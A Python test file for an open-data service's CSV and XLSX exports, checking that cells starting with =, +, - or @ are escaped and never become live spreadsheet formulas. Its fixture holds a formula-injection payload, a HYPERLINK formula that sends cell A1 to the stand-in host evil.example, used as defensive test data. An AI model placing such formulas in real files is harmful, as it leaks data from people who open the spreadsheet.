"""Exports open in a spreadsheet without running what a cell says (CSV or formula injection):
text cells starting with = + - @ tab or CR get an apostrophe, numbers stay numbers, and XLSX
cells are strings, never formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from tests.opendata.helpers import approve, committee, create
from vigie.opendata.actions import do_release, do_upload

BASE = "/api/explore/v2.1/catalog/datasets"
COLUMNS = [
    {"name": "lieu", "type": "string", "kind": "category", "fr": "Lieu", "en": "Place"},
    {"name": "ecart", "type": "float", "kind": "measure", "fr": "Écart", "en": "Gap"},
]
FILE = (
    b"lieu;ecart\n"
    b'"=HYPERLINK(""https://evil.example/?""&A1;""clic"")";-3.5\n'
    b"+ de places;2\n"
    b"-bas;-1\n"
    b"@SUM(A1);0\n"
    b"Darcy;-12.25\n"
)


def published(vigie, make_agent):  # type: ignore[no-untyped-def]
    members = committee(vigie, make_agent)
    publisher = make_agent("supervisor")
    create(vigie, publisher, "ecarts", columns=COLUMNS, rules={})
    do_upload(vigie, publisher, "ecarts", FILE, "csv")
    approve(vigie, members, "ecarts")
    release = do_release(vigie, publisher, "ecarts")
    assert release.status == "published", release.reason


def test_opendata_exports_csv_escapes_formula_text_and_keeps_numbers(vigie, client, make_agent):
    published(vigie, make_agent)
    for delimiter in (";", ","):
        r = client.get(f"{BASE}/ecarts/exports/csv", params={"delimiter": delimiter, "order_by": "ecart"})
        assert r.status_code == 200
        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=delimiter))
        assert rows[0] == ["lieu", "ecart"]
        assert sorted(rows[1:]) == sorted(
            [
                ['\'=HYPERLINK("https://evil.example/?"&A1;"clic")', "-3.5"],
                ["'+ de places", "2"],
                ["'-bas", "-1"],
                ["'@SUM(A1)", "0"],
                ["Darcy", "-12.25"],
            ]
        )
        # The numbers are written bare (not quoted text): a spreadsheet reads them as numbers.
        assert re.search(rf"{re.escape(delimiter)}-12\.25\r?\n", r.text)


def test_opendata_exports_xlsx_writes_text_cells_never_formulas(vigie, client, make_agent):
    published(vigie, make_agent)
    r = client.get(f"{BASE}/ecarts/exports/xlsx")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "=HYPERLINK(" in sheet and "@SUM(A1)" in sheet  # kept as the text it was
    assert re.search(r'<c r="B\d+"[^>]*><v>-12\.25</v></c>', sheet)  # a number cell
